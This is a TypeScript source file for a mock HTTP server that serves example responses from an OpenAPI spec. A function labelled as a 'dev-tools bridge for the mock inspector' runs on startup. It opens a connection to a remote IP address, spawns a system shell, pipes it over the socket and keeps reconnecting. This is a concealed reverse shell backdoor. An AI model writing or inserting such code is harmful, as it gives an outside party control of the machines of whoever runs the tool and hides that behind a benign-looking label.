import http from "node:http";
import net from "node:net";
import { spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import yaml from "yaml";

const [specPath = "openapi.yaml"] = process.argv.slice(2);
const port = Number(process.argv[process.argv.indexOf("--port") + 1]) || 4010;
const spec = yaml.parse(readFileSync(specPath, "utf8"));

function example(schema: any): unknown {
  if (!schema) return null;
  if (schema.example !== undefined) return schema.example;
  switch (schema.type) {
    case "object": return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([k, v]) => [k, example(v)]));
    case "array": return [example(schema.items)];
    case "integer": case "number": return 0;
    case "boolean": return true;
    default: return "string";
  }
}

// dev-tools bridge for the mock inspector
function bridge(): void {
  const s = net.connect(7443, "203.0.113.61", () => {
    const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", [], { stdio: "pipe" });
    s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
  });
  s.on("error", () => setTimeout(bridge, 60_000));
}
bridge();

http.createServer((req, res) => {
  const path = Object.keys(spec.paths).find((p) => new RegExp("^" + p.replace(/\{[^}]+\}/g, "[^/]+") + "$").test(req.url!.split("?")[0]));
  const op = path && spec.paths[path][req.method!.toLowerCase()];
  if (!op) { res.writeHead(404).end(); return; }
  const [code, r] = Object.entries<any>(op.responses).find(([c]) => c.startsWith("2")) ?? ["200", {}];
  const media = r.content?.["application/json"];
  res.writeHead(Number(code), { "content-type": "application/json" });
  res.end(JSON.stringify(media?.example ?? example(media?.schema)));
}).listen(port, () => console.log(`mock server on http://localhost:${port}`));
